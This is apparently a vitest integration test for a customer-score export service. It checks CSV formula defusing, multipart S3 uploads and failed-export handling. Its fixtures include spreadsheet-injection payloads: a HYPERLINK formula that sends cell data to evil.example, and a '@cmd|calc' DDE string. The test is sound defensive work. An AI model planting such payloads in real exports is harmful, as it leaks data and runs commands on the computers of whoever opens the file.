import { gunzipSync, gzipSync } from 'node:zlib'
import { HeadObjectCommand, PutObjectCommand } from '@aws-sdk/client-s3'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { ScoreRecord } from '../../shared/domain/score-record.ts'
import { EXPORT_PART_BYTES } from '../../shared/exports/s3-export-io.ts'
import { download, exportOf, serveRun } from './support/exports.ts'
import { startTestStack, type TestStack } from './support/stack.ts'

/** The shard count of the test stack. */
const SHARDS = 4
const RUN = 'crafted-run'

/**
 * No field of a real record starts with text a customer or an operator typed (ids must start with a
 * letter or digit, every label comes from a fixed list), so the run's score files are written here
 * with the hostile text a future field or a bad upstream could bring, and the export must defuse it.
 */
const base: ScoreRecord = {
  customerId: 'C-0',
  asOf: '2026-11-23',
  modelVersion: 'cs-1',
  runId: RUN,
  firstPurchase: '2025-01-05',
  lastPurchase: '2026-10-01',
  x: 3,
  tx: 634,
  T: 687,
  timeUnit: 'days',
  recency: 53,
  frequency: 4,
  monetary: 25.5,
  totalSpend: 102,
  totalMargin: 102,
  historicValue: 102,
  monthlySpend: [0, 0, 12.5, 0, 0, 0, 0, 0, 0, 0, 40, 0],
  quarterlySpend: [0, 12.5, 0, 40],
  expectedPurchases: 1.2345,
  pAlive: 0.8123,
  churnRisk: 0.1877,
  expectedSpend: 24.75,
  clv: 30.12,
  netValue: -12.5,
  rfmScore: '345',
  rfmSegment: 'Loyal',
  tier: 'general',
  tierStrategy: 'develop',
  quadrant: 'EIII',
  quadrantStrategy: 'upgrade',
  clearOutRecommended: null,
  pattern: 'stable',
  decision: 'maintain',
  reasons: [{ code: 'DECISION_MAINTAIN', text: 'net value covers the planned marketing cost' }],
}

const hostile: ScoreRecord[] = [
  {
    ...base,
    customerId: '=HYPERLINK("http://evil.example/?"&A1,"click")',
    rfmSegment: '+SUM(1,2)',
    tierStrategy: '-2+3',
    quadrantStrategy: '@cmd|calc',
    monthlySpend: [-5, 0, 10],
    reasons: [{ code: '=RFM', text: 'tab\tand "quotes", commas\nand a line break' }],
  },
  { ...base, customerId: 'C-1', rfmSegment: '\t=1+1', tierStrategy: '\r=1+1', netValue: -0.5, monetary: -3 },
]

/** Enough ordinary records that the export is larger than one 5 MB part. */
const filler = Array.from({ length: 9000 }, (_, i) => ({ ...base, customerId: `F-${i}`, netValue: i / 100 }))

let t: TestStack

beforeAll(async () => {
  t = await startTestStack()
  const shards: ScoreRecord[][] = Array.from({ length: SHARDS }, () => [])
  shards[0]?.push(...hostile)
  for (const [i, record] of filler.entries()) shards[i % SHARDS]?.push(record)
  for (const [shard, records] of shards.entries()) {
    await t.s3.send(
      new PutObjectCommand({
        Bucket: t.stack.bucket,
        Key: `runs/${RUN}/scores/shard=${String(shard).padStart(4, '0')}.jsonl.gz`,
        Body: gzipSync(records.map((r) => JSON.stringify(r)).join('\n')),
      }),
    )
  }
  await serveRun(t, RUN)
})

afterAll(async () => {
  await t?.close()
})

describe('CSV exports defuse spreadsheet formulas', () => {
  it('prefixes text that a spreadsheet would run with an apostrophe, and keeps numbers as numbers', async () => {
    const fields = ['customerId', 'rfmSegment', 'tierStrategy', 'quadrantStrategy', 'netValue', 'monetary']
    const job = await exportOf(t, {
      filter: { netValue: { max: 0 } },
      fields: [...fields, 'monthlySpend', 'reasons'],
      format: 'csv',
    })
    expect(job).toMatchObject({ status: 'ready', rows: 3 })
    const text = (await download(job)).toString('utf8')
    const rows = parse(text, { columns: true }) as Record<string, string>[]
    expect(rows[0]).toEqual({
      customerId: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
      rfmSegment: `'+SUM(1,2)`,
      tierStrategy: `'-2+3`,
      quadrantStrategy: `'@cmd|calc`,
      netValue: '-12.5',
      monetary: '25.5',
      monthlySpend: `'-5 0 10`,
      reasons: `'=RFM: tab\tand "quotes", commas\nand a line break`,
    })
    expect(rows[1]).toMatchObject({
      rfmSegment: `'\t=1+1`,
      tierStrategy: `'\r=1+1`,
      netValue: '-0.5',
      monetary: '-3',
    })
    // Numbers are written bare, never quoted, so a spreadsheet reads them as numbers.
    expect(text).toContain(`,-12.5,25.5,`)
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`)
  })

  it('leaves JSON lines as they are: the text is data there, not a cell', async () => {
    const job = await exportOf(t, { filter: { netValue: { max: -1 } }, format: 'jsonl' })
    const [line] = (await download(job)).toString('utf8').trim().split('\n')
    expect(JSON.parse(line ?? '')).toEqual(hostile[0])
  })
})

describe('large exports', () => {
  it('streams an export larger than one part to S3 as a multipart upload', async () => {
    const job = await exportOf(t, { format: 'jsonl', gzip: false })
    expect(job).toMatchObject({ status: 'ready', rows: filler.length + hostile.length })
    const key = `exports/${job.exportId}.jsonl`
    const head = await t.s3.send(new HeadObjectCommand({ Bucket: t.stack.bucket, Key: key }))
    // lib-storage sends a body longer than one part as a multipart upload (s3rver's ETags do not show it).
    expect(head.ContentLength).toBeGreaterThan(EXPORT_PART_BYTES)
    const lines = (await download(job)).toString('utf8').trim().split('\n')
    expect(lines).toHaveLength(filler.length + hostile.length)
  })

  it('gzips on the way, so the file holds the same lines', async () => {
    const job = await exportOf(t, { filter: {}, format: 'csv', gzip: true })
    const csv = gunzipSync(await download(job)).toString('utf8')
    expect(csv.split('\r\n').filter((line) => line.startsWith('F-'))).toHaveLength(filler.length)
  })
})

describe('failed exports', () => {
  it('records the export as failed, with a reason and no link, when the run has no score files', async () => {
    await serveRun(t, 'broken-run')
    const job = await exportOf(t, { format: 'csv' })
    expect(job).toMatchObject({ status: 'failed', runId: 'broken-run', rows: null })
    expect(job.reason).toBe('run broken-run has no scores for shard 0')
    expect(job.url).toBeUndefined()
    expect(job.finishedAt).not.toBeNull()
    const gzipped = await exportOf(t, { format: 'jsonl', gzip: true })
    expect(gzipped).toMatchObject({ status: 'failed', reason: 'run broken-run has no scores for shard 0' })
  })
})
